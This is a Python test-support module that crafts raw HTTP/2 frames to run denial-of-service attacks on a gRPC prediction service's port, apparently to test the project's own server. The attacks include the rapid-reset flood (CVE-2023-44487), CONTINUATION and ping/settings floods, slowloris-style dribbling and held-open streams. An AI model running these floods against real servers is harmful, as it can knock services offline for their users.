"""Attacks on the gRPC port, as `python -m support.attacks` makes them."""

import threading
import time
from contextlib import suppress

from support.attacks.attacker import Attacker
from support.wire.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
)

PREDICT = "/digits.v1.PredictionService/Predict"
WATCH = "/grpc.health.v1.Health/Watch"
PREDICT_STREAM = "/digits.v1.PredictionService/PredictStream"
IMAGE = b"\x0a\x90\x06" + bytes(784)
CALL = b"\0" + len(IMAGE).to_bytes(4, "big") + IMAGE
CANCEL = (8).to_bytes(4, "big")
WATCHING = 100
"""Connections that share the watches of an attack."""


def stream(number: int) -> int:
    return 2 * number + 1


def idle(attacker: Attacker, count: int) -> None:
    for _ in range(count):
        attacker.connect()
    attacker.sent = count


def half_open(attacker: Attacker, count: int) -> None:
    """Connections on which nothing, or half of the preface, is sent."""
    for number in range(count):
        attacker.connect(PREFACE[: 12 * (number % 2)])
    attacker.sent = count


def one_byte_a_second(attacker: Attacker, count: int) -> None:
    """Calls sent one byte a second, each in its own frame: half of them with their headers, half only the message."""
    headers = frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
    for number in range(count):
        attacker.connect(PREFACE + (headers if number % 2 else b""))
    attacker.sent = count

    def dribble() -> None:
        for at in range(3600):
            for number, connection in enumerate(attacker.open):
                piece = frame(DATA, 0, 1, CALL[at : at + 1]) if number % 2 else headers[at : at + 1]
                with suppress(OSError):
                    connection.sendall(piece)
            time.sleep(1)

    threading.Thread(target=dribble, daemon=True).start()


def rapid_resets(attacker: Attacker, count: int) -> None:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    headers = call_headers(PREDICT)

    def reset(number: int) -> bytes:
        at = stream(number)
        return frame(HEADERS, END_HEADERS, at, headers) + frame(RST_STREAM, 0, at, CANCEL)

    attacker.flood(reset, count)


def resets_of_whole_calls(attacker: Attacker, count: int) -> None:
    """The same with the whole request, whose work has begun by then."""
    headers = call_headers(PREDICT)

    def reset(number: int) -> bytes:
        at = stream(number)
        whole = frame(HEADERS, END_HEADERS, at, headers) + frame(DATA, END_STREAM, at, CALL)
        return whole + frame(RST_STREAM, 0, at, CANCEL)

    attacker.flood(reset, count, 10)


def pings(attacker: Attacker, count: int) -> None:
    attacker.flood(lambda _: frame(PING, 0, 0, b"anybody?"), count)


def settings(attacker: Attacker, count: int) -> None:
    attacker.flood(lambda number: frame(SETTINGS, 0, 0, b"\0\x04" + (65_535 + number % 9).to_bytes(4, "big")), count)


def priorities(attacker: Attacker, count: int) -> None:
    attacker.flood(lambda number: frame(PRIORITY, 0, stream(number), bytes(4) + b"\x10"), count)


def empty_data(attacker: Attacker, count: int) -> None:
    opened = PREFACE + frame(HEADERS, END_HEADERS, 1, call_headers(PREDICT))
    attacker.flood(lambda _: frame(DATA, 0, 1), count, begin=opened)


def window_updates(attacker: Attacker, count: int) -> None:
    attacker.flood(lambda _: frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")), count)


def continuations(attacker: Attacker, count: int) -> None:
    """Headers without an end, 16 KiB at a time."""
    opened = PREFACE + frame(HEADERS, 0, 1, call_headers(PREDICT))
    name = b"x" * 7
    more = frame(CONTINUATION, 0, 1, (b"\0\x07" + name + b"\x71" + b"y" * 113) * 128)
    attacker.flood(lambda _: more, count, 10, opened)


def large_headers(attacker: Attacker, count: int) -> None:
    """Calls with 15 KiB of metadata, just within the limit, and then calls far over it."""
    small = {f"x-note-{number}": "y" * 100 for number in range(100)}
    large = {f"x-note-{number}": "y" * 100 for number in range(400)}

    def call(number: int) -> bytes:
        block = call_headers(PREDICT, **(large if number % 2 else small))
        at, pieces = stream(number), [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
        first = frame(HEADERS, 0 if len(pieces) > 1 else END_HEADERS, at, pieces[0])
        rest = b"".join(
            frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, at, piece) for piece in pieces[1:]
        )
        return first + rest + frame(DATA, END_STREAM, at, CALL)

    attacker.flood(call, count, 2)


def closed_windows(attacker: Attacker, count: int) -> None:
    """Calls whose replies can never be sent, because the caller's window is closed."""
    nothing = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))
    headers = call_headers(PREDICT)

    def call(number: int) -> bytes:
        at = stream(number)
        return frame(HEADERS, END_HEADERS, at, headers) + frame(DATA, END_STREAM, at, CALL)

    attacker.hold(call, count, PREFACE + nothing)


def unfinished_calls(attacker: Attacker, count: int) -> None:
    """Calls whose message is never complete; half of them send its beginning."""
    headers = call_headers(PREDICT)

    def begun(number: int) -> bytes:
        at = stream(number)
        return frame(HEADERS, END_HEADERS, at, headers) + (frame(DATA, 0, at, CALL[:400]) if number % 2 else b"")

    attacker.hold(begun, count)


def open_streams(attacker: Attacker, count: int) -> None:
    """Streams on which nothing is sent."""
    headers = call_headers(PREDICT_STREAM)
    attacker.hold(lambda number: frame(HEADERS, END_HEADERS, stream(number), headers), count)


def watches(attacker: Attacker, count: int) -> None:
    """Watches of the server's health on a hundred connections."""
    headers = call_headers(WATCH)

    def watch(number: int) -> bytes:
        at = stream(number)
        return frame(HEADERS, END_HEADERS, at, headers) + frame(DATA, END_STREAM, at, bytes(5))

    attacker.hold(watch, count, on_each=-(-count // WATCHING))


def garbage(attacker: Attacker, count: int) -> None:
    """Other protocols, and invalid frames."""
    for number in range(count):
        words = [b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", b"\x16\x03\x01" + bytes(500), PREFACE + b"\xff" * 500]
        attacker.connect(words[number % 3]).close()
        attacker.open.pop()
        attacker.sent += 1
